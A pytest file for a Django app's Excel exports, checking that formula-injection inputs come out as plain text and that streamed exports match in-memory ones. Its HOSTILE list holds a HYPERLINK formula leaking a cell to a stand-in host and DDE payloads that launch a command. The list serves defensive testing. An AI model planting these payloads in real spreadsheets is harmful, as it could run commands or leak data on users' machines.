"""Formula injection in Excel exports (chèn công thức vào tệp xuất Excel): a name or a comment typed as
`=HYPERLINK(…)` or `=cmd|' /C calc'!A0` reaches the user's Excel as text, in every export, read back
from the file; numbers stay numbers."""

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cndp.core.excel import WIDTH_SAMPLE_ROWS, build_workbook, neutralise_formulas, workbook_response

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 912 345 678",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))  # formulas as formulas, not cached values
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def test_every_trigger_becomes_visible_text_and_numbers_stay_numbers():
    wb = build_workbook("Danh sách", ["Tên", "Số"], [[text, -5] for text in HOSTILE] + [["Bình thường", 1.5]])
    assert any(cell.data_type == "f" for row in wb.active.iter_rows() for cell in row)  # openpyxl's default
    response = workbook_response(wb, "x")
    cells = _cells(response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_text = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in HOSTILE:
        assert by_text[text].data_type == "s" and by_text[text].quotePrefix
    numbers = [c.value for c in cells if c.column == 2 and c.row > 3]
    assert numbers == [-5] * len(HOSTILE) + [1.5]
    assert not by_text["Bình thường"].quotePrefix


def test_a_formula_set_directly_is_written_as_its_text():
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    wb.create_sheet("Hai")["B2"] = "=cmd|' /C calc'!A0"
    assert neutralise_formulas(wb) == 2
    buffer = io.BytesIO()
    wb.save(buffer)
    values = {(c.parent.title, c.coordinate): (c.value, c.data_type) for c in _cells(buffer.getvalue())}
    assert values[("Sheet", "A1")] == ("=1+1", "s")
    assert values[("Hai", "B2")] == ("=cmd|' /C calc'!A0", "s")


@pytest.mark.django_db
def test_the_project_member_and_synthesis_exports_hold_no_formula(demo, client_for):
    from cndp.congress.models import Comment
    from cndp.extension.models import Project
    from cndp.party.models import Member

    project = Project.objects.order_by("pk").first()
    Project.objects.filter(pk=project.pk).update(name=HOSTILE[0])
    member = Member.objects.order_by("pk").first()
    Member.objects.filter(pk=member.pk).update(full_name=HOSTILE[1])
    comment = Comment.objects.order_by("pk").first()
    Comment.objects.filter(pk=comment.pk).update(content=HOSTILE[4])

    exports = [
        (
            client_for("agency_officer"),
            reverse("extension:project_list"),
            {"q": project.code, "export": "xlsx"},
        ),
        (client_for("party_officer"), reverse("party:member_list"), {"export": "xlsx"}),
        (
            client_for("leader"),
            reverse("congress:document_synthesis_xlsx", args=[comment.section.document_id]),
            {},
        ),
    ]
    for (client, url, query), text in zip(exports, (HOSTILE[0], HOSTILE[1], HOSTILE[4]), strict=True):
        response = client.get(url, query)
        assert response.status_code == 200, url
        cells = _cells(response.content)
        assert not [c.coordinate for c in cells if c.data_type == "f"], url
        assert text in [c.value for c in cells], url


def _streamed(*args, **kwargs) -> bytes:
    from cndp.core.excel import workbook_chunks

    return b"".join(workbook_chunks(*args, **kwargs))


def test_a_streamed_sheet_is_the_sheet_built_in_memory():
    import datetime

    header = ["Tên", "Số", "Ngày"]
    rows = [[f"Đề án {i}", i * 1000, datetime.date(2026, 1, 1 + i % 28)] for i in range(1200)]
    rows[7][0] = None
    built = io.BytesIO()
    build_workbook("Đề án khuyến công", header, rows, "Toàn bộ danh sách").save(built)
    old = load_workbook(io.BytesIO(built.getvalue())).active
    new = load_workbook(
        io.BytesIO(_streamed("Đề án khuyến công", header, iter(rows), "Toàn bộ danh sách"))
    ).active
    assert list(new.iter_rows(values_only=True)) == list(old.iter_rows(values_only=True))
    assert new.title == old.title
    assert new.freeze_panes == old.freeze_panes == "A4"
    assert new.auto_filter.ref == old.auto_filter.ref == "A3:C1203"
    assert new["A1"].font.b and new["A1"].font.sz == 14 and new["A2"].font.i
    assert [c.font.b for c in new[3]] == [True] * 3
    assert new["B3"].fill.fgColor.rgb == old["B3"].fill.fgColor.rgb
    assert new["C4"].is_date and new["C4"].number_format == old["C4"].number_format
    sampled = build_workbook("x", header, rows[:WIDTH_SAMPLE_ROWS]).active  # widths: of the first rows
    for letter in "ABC":
        assert new.column_dimensions[letter].width == sampled.column_dimensions[letter].width


def test_a_streamed_sheet_neutralises_formulas_in_every_chunk():
    rows = [[text, -5] for text in HOSTILE] * 3 + [["Bình thường", 1.5]]
    content = _streamed("Danh sách", ["=Tên", "Số"], rows, "-lọc", chunk_rows=2)
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hostile = [
        c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t"))
    ]
    assert len(hostile) == 3 * len(HOSTILE) + 2  # the rows, the header's "=Tên" and the subtitle
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
    numbers = [c.value for c in cells if c.column == 2 and c.row > 3]
    assert numbers == [-5] * (3 * len(HOSTILE)) + [1.5]


def test_a_streamed_sheet_sends_its_first_bytes_before_the_rows_are_read():
    from cndp.core.excel import workbook_chunks

    read = []

    def rows():
        for i in range(5000):
            read.append(i)
            yield [f"Dòng {i}", i]

    chunks = workbook_chunks("Danh sách", ["Tên", "Số"], rows(), chunk_rows=500)
    first = next(chunks)
    assert first.startswith(b"PK")  # a zip's local file header: the client has its first bytes
    assert len(read) < 1000  # the width sample (500) and the first row: not the 5,000
    rest = b"".join(chunks)
    assert len(read) == 5000
    sheet = load_workbook(io.BytesIO(first + rest)).active
    assert sheet.max_row == 5003 and sheet["A5003"].value == "Dòng 4999"


@pytest.mark.django_db
def test_the_list_export_is_streamed_from_a_query_iterator(demo, client_for, django_assert_max_num_queries):
    """The project list's export: a streaming response, the rows of the table's export values (same
    columns, same filter), read with `.iterator()` (a constant number of queries)."""
    from django.db.models.query import QuerySet

    from cndp.extension.models import Project

    client = client_for("agency_officer")
    query = {"plan_year": 2025, "export": "xlsx"}
    iterated = []
    real = QuerySet.iterator

    def spying(self, *args, **kwargs):
        iterated.append((self.model, kwargs.get("chunk_size")))
        return real(self, *args, **kwargs)

    from unittest import mock

    with mock.patch.object(QuerySet, "iterator", spying), django_assert_max_num_queries(25):
        response = client.get(reverse("extension:project_list"), query)
        assert response.status_code == 200 and response.streaming
        content = b"".join(response.streaming_content)
    assert (Project, 2000) in iterated
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    expected = Project.objects.filter(plan_year=2025).count()
    assert expected > 3
    assert rows[2][:3] == ("Mã đề án", "Tên đề án", "Năm")
    assert len(rows) == 3 + expected
    assert {row[2] for row in rows[3:]} == {2025}
    assert f"{expected} bản ghi" in rows[1][0]


def test_a_streamed_sheet_holds_no_more_memory_for_more_rows():
    import tracemalloc

    from cndp.core.excel import workbook_chunks

    def rows(n):
        for i in range(n):
            yield [f"BM-{i:06d}", f"Đề án khuyến công thử tải số {i}", 2025, 123_456_789, "Đang thực hiện"]

    def peak(n):
        tracemalloc.start()
        try:
            size = sum(len(chunk) for chunk in workbook_chunks("Đề án", list("ABCDE"), rows(n)))
            return size, tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    (small_size, small_peak), (big_size, big_peak) = peak(2_000), peak(30_000)
    assert big_size > 10 * small_size
    assert big_peak < small_peak + 1_000_000  # an in-memory workbook of 30,000 rows holds tens of MB
